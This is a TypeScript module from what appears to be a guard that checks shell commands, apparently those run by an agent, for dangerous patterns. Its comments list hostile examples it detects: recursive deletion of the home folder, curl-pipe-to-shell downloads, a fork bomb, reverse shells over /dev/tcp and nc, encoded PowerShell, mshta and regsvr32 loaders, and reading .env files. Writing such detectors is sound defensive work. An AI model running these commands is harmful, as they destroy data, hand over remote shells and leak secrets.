import { checkPipelines, fedScript, type PipedInvocation, runsFedText, runsProgramFromStdin } from './bash-rules.ts';
import { freshScripts, walkChildScripts } from './child-shell-folders.ts';
import { type Invocation, runsStdin, SHELLS, unwrap } from './command.ts';
import { checkCommand } from './command-checks.ts';
import { defaultValueVariants } from './default-values.ts';
import { checkExfiltration } from './exfiltration.ts';
import { checkStashDiscard } from './families/git-stash-discard.ts';
import { familyFinding } from './families/index.ts';
import { programWords } from './families/interpreter.ts';
import { checkForkBomb } from './families/system-forks.ts';
import { fedArgumentScripts, PipeReading, shellSubstitutions, substitutionFeeds, unknownNamesRemoval } from './fed-input.ts';
import { findExecShells } from './find-exec-shells.ts';
import { globProgramReadings } from './glob-programs.ts';
import { checkIgnoredAdded } from './ignored-files.ts';
import { downloadRun, evaluatedDownload, lineDownload, powershellCode, unreadableCode } from './powershell.ts';
import { powershellRemovalLines } from './powershell-removal.ts';
import type { ProjectRun } from './project-scripts.ts';
import { checkRemoteShells } from './remote-shells.ts';
import { MAX_DEPTH, parseShell, type SimpleCommand } from './shell.ts';
import { SETTING_BUILTINS } from './shell-vars.ts';
import { SubshellFolders } from './subshell-folders.ts';
import { substitutedScripts } from './substituted-scripts.ts';
import { programIndex } from './syntax.ts';
import type { Walk } from './walk-state.ts';
import { windowsReading } from './windows-commands.ts';
import { windowsLoad } from './windows-loaders.ts';
import { COMMAND_COST, charge } from './work-budget.ts';
import { writtenSettings } from './written-settings.ts';

/**
 * Walks one shell script (a command line, or one it runs: `bash -c`, a heredoc, a pipe into a shell)
 * at `depth` of nesting: checks each of its commands (command-checks.ts) and what the pipelines feed
 * one another, recording findings and PR gates in `w`.
 */
export function walkScript(src: string, w: Walk, depth: number): void {
  if (depth > MAX_DEPTH) {
    w.findings.push({ rule: 'shell.too-deep', reason: 'the command nests shells too deeply to be checked; run the steps one by one' });
    return;
  }
  charge(w.budget, src.length);
  // `bash -c "${CMD:-rm -rf ~}"`: the line again as if each variable it does not set held its default (default-values.ts)
  for (const variant of defaultValueVariants(src)) walkScript(variant, w, depth);
  // `find … -exec sh -c 'rm -rf "$1"' _ {} \;` read as the `-exec rm -rf {} \;` it is (find-exec-shells.ts)
  const script = findExecShells(parseShell(src, { home: w.ctx.home, depth }));
  if (script.tooDeep)
    w.findings.push({
      rule: 'shell.too-deep',
      reason: 'the command nests too deeply, grows a variable too long or expands braces into too many words to be checked; run the steps one by one',
    });
  // `:(){ :|:& };:`: a function of the line that starts itself beside itself, called (the system family's, read from the whole line)
  const bomb = w.policy.families.system === 'off' ? null : checkForkBomb(src);
  if (bomb) w.findings.push(familyFinding('system', bomb, w.policy));
  const piped: PipedInvocation[] = [];
  // the stages that run a command line they are handed (`eval printenv`, `watch env`): no program of
  // their own for the rules, but what that line prints is theirs (exfiltration.ts reads them as such)
  const lineStages: PipedInvocation[] = [];
  // for each command that runs code it is given (a shell, eval, source): what runs to produce that code
  const fed: Invocation[][] = [];
  const runsOf = new Map<SimpleCommand, Invocation[]>();
  // each pipeline's stages by their index, the first command at each: what feeds a stage is found in one lookup
  const stages = new Map<number, SimpleCommand[]>();
  for (const c of script.commands) {
    let line = stages.get(c.pipeline);
    if (!line) stages.set(c.pipeline, (line = []));
    line[c.index] ??= c;
  }
  // what each stage writes and reads on, found once per stage
  const reading = new PipeReading(
    (pipeline, index) => stages.get(pipeline)?.[index],
    (s) => runsOf.get(s)?.[0] ?? null,
    (work) => charge(w.budget, work),
  );
  const subshells = new SubshellFolders();
  for (const [n, cmd] of script.commands.entries()) {
    charge(w.budget, COMMAND_COST);
    subshells.enter(cmd.subshells, w);
    const { invocation, scripts, alternatives } = unwrap(cmd);
    runsOf.set(cmd, invocation ? [invocation] : []);
    // `tmp=$(mktemp -d); trap 'rm -rf "$tmp"' EXIT`: the handler runs later in this shell, with the line's variables
    const prelude = scripts.length && cmd.words[programIndex(cmd.words)]?.value === 'trap' ? variableSetters(script.commands) : '';
    // a script another process runs (`bash -c`, `ssh host '…'`) moves no later command; `eval`'s does (child-shell-folders.ts)
    walkChildScripts(cmd, freshScripts(cmd, scripts), w, (s) => walkScript(prelude + s, w, depth + 1));
    // `pwsh -Command '…'`, `powershell -EncodedCommand …`: the code PowerShell runs, and a download it evaluates (powershell.ts)
    const ps = invocation && powershellCode(invocation);
    if (ps && 'unreadable' in ps) w.findings.push(unreadableCode(invocation!.program, ps.unreadable));
    else if (ps) {
      if (!scripts.length) walkScript(ps.code, w, depth + 1);
      // `pwsh -c 'Remove-Item -Recurse -Force ~'`: the cmdlet as the rm it amounts to (powershell-removal.ts)
      for (const line of powershellRemovalLines(ps.code, w.ctx.home, depth + 1)) walkScript(line, w, depth + 1);
      const url = evaluatedDownload(ps.code);
      if (url) fed.push([downloadRun(invocation!, url)]);
    }
    // `cmd /c rd /s /q C:\Users\u`, `takeown /f C:\Windows /r`: Windows' commands as the POSIX ones they amount to (windows-commands.ts)
    const win = invocation && windowsReading(invocation, w.ctx.home);
    if (win) walkScript(win, w, depth + 1);
    // `mshta URL`, `regsvr32 /i:URL scrobj.dll`, `msiexec /i URL`: code fetched and run in one step, as `curl URL | sh` (windows-loaders.ts)
    const loaded = invocation && windowsLoad(invocation);
    if (loaded) fed.push([downloadRun(invocation!, loaded)]);
    if (!invocation && scripts.length) lineStages.push({ inv: lineStage(cmd), pipeline: cmd.pipeline, index: cmd.index });
    // what runs to produce the words (`echo "$(curl x)" | sh`) runs at this place in the pipeline
    const inner = cmd.words.some((x) => x.subs.length) ? cmd.words.flatMap((x) => x.subs).flatMap((s) => s.commands.flatMap((c) => runsOf.get(c) ?? [])) : [];
    for (const inv of invocation ? [invocation, ...inner] : inner) piped.push({ inv, pipeline: cmd.pipeline, index: cmd.index });
    // `echo 'rm -rf ~' > x.sh && sh x.sh`, `curl -o x.sh URL && bash x.sh`: a file the line wrote, run (written-scripts.ts)
    const ran = w.written.runs(invocation, w.cwd);
    walkChildScripts(cmd, ran.scripts, w, (s) => walkScript(s, w, depth + 1));
    if (ran.downloads.length) fed.push(ran.downloads);
    if (ran.tooMany) w.findings.push(ran.tooMany);
    w.written.record(cmd, invocation, reading, piped, w.cwd);
    // `echo 'registry=http://…' >> .npmrc`: a package manager's settings file written with a setting that sends installs elsewhere (written-settings.ts)
    const setting = writtenSettings(cmd, invocation, reading);
    if (setting) w.findings.push(setting);
    // the stage before this one in its pipeline (`echo x | sh`): what it writes is this command's stdin
    const feeder = cmd.index > 0 ? stages.get(cmd.pipeline)![cmd.index - 1] : undefined;
    // the stage before any filters that pass some of its lines on unchanged (`| tee log | sh`, `| grep -v x | sort | head`)
    const finder = feeder && reading.source(feeder);
    // where the names that reach this stage are printed, also through stages selecting fields (`du .env | cut -f2 | xargs cat`)
    const namer = feeder && reading.nameSource(feeder);
    if (invocation && runsFedText(invocation) && cmd.index > 0) {
      // what the stage before writes, or what reaches it through the filters between (fed-input.ts PipeReading)
      const text = reading.read(cmd);
      if (text) walkChildScripts(cmd, [fedScript(invocation, text)], w, (s) => walkScript(s, w, depth + 1), true);
    }
    // `echo '…' | tee >(sh)`, `echo '…' > >(bash)`: a shell reading what this stage writes
    walkChildScripts(cmd, substitutionFeeds(cmd, invocation, reading), w, (s) => walkScript(s, w, depth + 1), true);
    // `sh -c "$(echo … | base64 -d)"`, `eval "$(…)"`, `bash <(… | gunzip)`: a substitution's pipeline the line tells
    walkChildScripts(cmd, substitutedScripts(cmd, reading), w, (s) => walkScript(s, w, depth + 1));
    // `echo / | xargs rm -rf`, `echo ~ | parallel rm -rf`: the words they read become arguments; after
    // a `find`, through those filters
    const feederInv = feeder ? (runsOf.get(feeder)?.[0] ?? null) : null;
    const finderInv = finder ? (runsOf.get(finder)?.[0] ?? null) : null;
    const between = (from: SimpleCommand) =>
      stages
        .get(cmd.pipeline)!
        .slice(from.index + 1, cmd.index)
        .map((c) => runsOf.get(c)?.[0] ?? null);
    const filters = finder ? between(finder) : [];
    if (invocation) for (const s of fedArgumentScripts(invocation, cmd, feeder, feederInv, finderInv, reading.read(cmd), filters)) walkScript(s, w, depth + 1);
    // and as the names the stage before the field selectors printed, where those are not the lines it reads
    const namerInv = namer && namer !== finder ? (runsOf.get(namer)?.[0] ?? null) : null;
    if (invocation && namerInv)
      for (const s of fedArgumentScripts(invocation, cmd, feeder, feederInv, namerInv, reading.read(cmd), between(namer!))) walkScript(s, w, depth + 1);
    const unknownNames = invocation && unknownNamesRemoval(invocation, cmd, feeder, finderInv);
    if (unknownNames) w.findings.push(unknownNames);
    // what a static earlier stage writes into this one's stdin (`echo 'DROP DATABASE x' | psql`), through the filters between
    checkCommand(cmd, invocation, w, depth, reading.read(cmd));
    // `systemd-run --service-type oneshot rm -rf ~`: the reading where an unknown option took a value
    for (const alt of alternatives) checkCommand(cmd, alt, w, depth);
    // `/bin/r? -rf ~`: a command name that is a glob, as each guarded program it may name (glob-programs.ts)
    for (const alt of globProgramReadings(invocation)) checkCommand(cmd, alt, w, depth, reading.read(cmd));
    // `npm run release`, `make deploy`, `just x`: the project's own script, as its file defines it (project-scripts.ts);
    // after the command's own checks, so that a file the command may not read (`make -f .env`) is denied as that first
    if (w.project && invocation) for (const run of w.project.runs(invocation, w.cwd, w.chain, w.written)) walkProjectScript(run, cmd.comment, w, depth);
  }
  // the line goes on where it was before any subshell it ended in
  subshells.enter(undefined, w);
  // commands whose words are produced by other commands, where the consumer runs them as code
  for (const cmd of script.commands) {
    const inv = runsOf.get(cmd)?.[0];
    const head = inv?.program ?? cmd.words[programIndex(cmd.words)]?.value;
    // an interpreter reading its program from stdin (`python3 - <<< "$(curl x)"`, `node <<< …`) runs what it reads, not its words
    const interpreter = !!inv && !runsStdin(inv) && runsProgramFromStdin(inv);
    if (head && (interpreter || (inv ? runsStdin(inv) : SHELLS.has(head)) || head === 'eval' || head === 'source' || head === '.')) {
      // what the shell runs: its words, and what it reads (`bash <<< "$(curl x)"`, a heredoc's substitutions)
      const subs = [...(interpreter ? [] : cmd.words.flatMap((x) => x.subs)), ...cmd.redirects.flatMap((r) => [...(r.subs ?? []), ...(r.target?.subs ?? [])])];
      fed.push(subs.flatMap((s) => s.commands.flatMap((c) => runsOf.get(c) ?? [])));
    }
    // `python3 -c "$(curl x)"`, `python3 <(curl x)`: what the substitution prints is the interpreter's program
    const program = inv ? programWords(inv) : [];
    if (program.length) fed.push(program.flatMap((x) => x.subs.flatMap((s) => s.commands.flatMap((c) => runsOf.get(c) ?? []))));
    // `curl x > >(sh)`: the command's output is a shell's script
    if (inv && shellSubstitutions(cmd, inv, reading.invOf)) fed.push([inv]);
  }
  // `iex (irm URL)`: a line PowerShell reads, evaluating a download (powershell.ts)
  const evaluated = lineDownload(src, script.commands);
  if (evaluated) fed.push([downloadRun(lineStage(evaluated.cmd), evaluated.url)]);
  const p = checkPipelines(piped, fed, w.policy) ?? checkExfiltration(lineStages.length ? [...piped, ...lineStages] : piped);
  if (p) w.findings.push(p);
  // `bash -i >& /dev/tcp/h/p 0>&1`, `nc -e /bin/sh h p`, `cat f | sh | nc h p`: a shell bound to a socket (remote-shells.ts)
  const remote = checkRemoteShells(script.commands, (c) => runsOf.get(c)?.[0] ?? null);
  if (remote) w.findings.push(remote);
  // `git add -f .`, `rm .gitignore && git add -A`: every ignored file staged (ignored-files.ts)
  const ignored = checkIgnoredAdded(script.commands, (c) => runsOf.get(c)?.[0] ?? null);
  if (ignored) w.findings.push(ignored);
  // `git stash -u && git stash drop`: the work stashed, then dropped (families/git-stash-discard.ts)
  const stashed = w.policy.families.gitHistory === 'off' ? null : checkStashDiscard(script.commands, (c) => runsOf.get(c)?.[0] ?? null);
  if (stashed) w.findings.push(familyFinding('gitHistory', stashed, w.policy));
}

/**
 * Walks what a project's script runs (its lines, in its folder, each a shell of its own) as if
 * typed; each finding's reason says which script it came from (`package.json scripts.release
 * runs \`npm publish\`: …`). The `#!axme` marker of the command that runs it (`comment`) is its
 * git commands' (`npm run version #!axme pr=none repo=o/r`: a script's commit carries none).
 */
function walkProjectScript(run: ProjectRun, comment: string | null, w: Walk, depth: number): void {
  const marker = comment ?? w.marker;
  // `npm run a && npm run a`, a script every other one runs: its findings are in already
  if (!w.project!.firstWalk(run, marker)) return;
  const inner: Walk = { ...w, findings: [], gates: [], fallback: null, chained: false, chain: [...w.chain, run.key], marker };
  for (const line of run.lines) walkScript(line, { ...inner, cwd: run.cwd }, depth + 1);
  const oneLine = run.text.replace(/\s*\n\s*/g, '; ');
  const text = oneLine.length > 120 ? `${oneLine.slice(0, 117)}...` : oneLine;
  for (const f of inner.findings) w.findings.push({ ...f, reason: `${run.source} runs \`${text}\`: ${f.reason}` });
  w.gates.push(...inner.gates);
}

/** A stage that runs the command line it is handed, as an invocation of its first word (`eval`, `watch`): what printsEnvironment reads. */
function lineStage(cmd: SimpleCommand): Invocation {
  const start = programIndex(cmd.words);
  const words = start < 0 ? [] : cmd.words.slice(start);
  return { program: words[0]?.value ?? '', args: words.slice(1), via: [], runners: [], chdir: null, command: cmd };
}

/**
 * The commands of a line that set its variables or aliases (`tmp=$(mktemp -d)`, `export D=x`,
 * `set -- a`, `read d`, `printf -v d …`, `alias x=…`), as a script to run before a trap handler:
 * the values they leave are the handler's.
 */
function variableSetters(commands: readonly SimpleCommand[]): string {
  const setters = commands.filter((c) => c.words.length && (SETTING_BUILTINS.test(c.words[0]!.raw) || programIndex(c.words) < 0));
  return setters.map((c) => `${c.words.map((x) => x.raw).join(' ')}\n`).join('');
}
